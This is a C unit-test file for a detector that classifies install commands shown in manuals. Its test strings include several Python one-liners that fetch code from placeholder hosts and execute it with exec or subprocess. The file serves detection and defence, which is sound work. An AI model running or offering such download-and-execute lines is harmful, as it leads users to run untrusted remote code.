// SPDX-License-Identifier: GPL-2.0-or-later
/* The form of what a manual tells people to type, and what hides behind it. */
#include <string.h>

#include "judge/install.h"

#include "../test.h"

static bool only(const char *text)
{
	return mpy_install_only((const uint8_t *)text, strlen(text));
}

static void forms(void)
{
	CHECK(only("import urllib.request as r\n"
		   "exec(r.urlopen('https://x.invalid/get.py').read())"));
	CHECK(only("import requests; exec(requests.get('https://x.invalid/g', "
		   "timeout=30).text)"));
	CHECK(only("from urllib.request import urlopen\n"
		   "code = urlopen('https://x.invalid/g').read().decode()\n"
		   "exec(code)"));
	CHECK(only("import urllib.request, subprocess, sys\n"
		   "urllib.request.urlretrieve('https://x.invalid/g', 'g')\n"
		   "subprocess.check_call([sys.executable, 'g'])"));
}

static void more(void)
{
	static const char *const texts[] = {
		"",
		"x = 1",
		/* something else is run */
		"import requests\nrequests.get('https://x.invalid/g')\n"
		"exec(__import__('helper').fetch('203.0.113.9'))",
		"import requests, helper\nexec(requests.get('https://x.invalid/')"
		".text)",
		"import requests\nexec(requests.get('https://x.invalid/g').text)\n"
		"exec(x)",
		"import requests, sys\nrequests.get('https://x.invalid/g')\n"
		"exec(sys.argv[1])",
		"import requests, sys\nrequests.get('https://x.invalid/g')\n"
		"exec(sys.stdin.read())",
		"import requests\nrequests.get('https://x.invalid/g')\n"
		"exec(open('a').read())",
		/* one of two addresses */
		"import requests\nu = 'https://x.invalid/g'\n"
		"exec(requests.get('https://y.invalid/g').text)",
		"import requests, time\nu = 'https://x.invalid/g' if time.time() "
		"else v\nexec(requests.get(u).text)",
		/* by way of somebody */
		"import requests, os\nos.environ['HTTPS_PROXY'] = 'x'\n"
		"exec(requests.get('https://x.invalid/g').text)",
	};

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		CHECK_STR(only(texts[i]) ? texts[i] : "no", "no");
}

static void bounds(void)
{
	char text[4096] = "import requests\n";

	for (int i = 0; i < 40; i++)
		strcat(text, "x = 1\n");
	strcat(text, "exec(requests.get('https://x.invalid/g').text)\n");
	CHECK(!only(text));
}

int main(void)
{
	RUN(forms);
	RUN(more);
	RUN(bounds);
	return DONE();
}
